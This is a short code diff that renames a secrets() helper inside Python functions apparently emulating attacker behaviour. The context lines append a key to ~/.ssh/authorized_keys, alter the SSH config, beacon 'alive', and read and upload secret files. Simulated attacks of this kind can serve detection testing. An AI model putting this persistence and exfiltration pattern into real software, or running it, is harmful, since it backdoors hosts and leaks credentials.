@@ -63,7 +63,7 @@ def persist_ssh_key():
         append(home(".ssh/authorized_keys"), b"ssh-ed25519 " + noise(68).encode() + b" root\n")
     os.chmod(guard(home(".ssh/authorized_keys")), 0o600)
     append(home(".ssh/config"), b"Host *\n    ControlMaster auto\n    ControlPath ~/.cache/%r@%h\n")
-    for path in pick(SECRETS(), 1, 4):
+    for path in pick(secrets(), 1, 4):
         read(path)
     finish_persistence(hide_copy())
 
@@ -75,7 +75,7 @@ def finish_persistence(path):
     for _ in range(R.randrange(2, 7)):
         exchange(b"alive " + noise(24).encode())
         pause(1, 15)
-    for secret in pick(SECRETS(), 0, 3):
+    for secret in pick(secrets(), 0, 3):
         upload(stream(b"wire", read(secret)), "report")
     write(f"{os.path.dirname(path)}/state", R.randbytes(64), 0o600)
     if R.random() < 0.4:
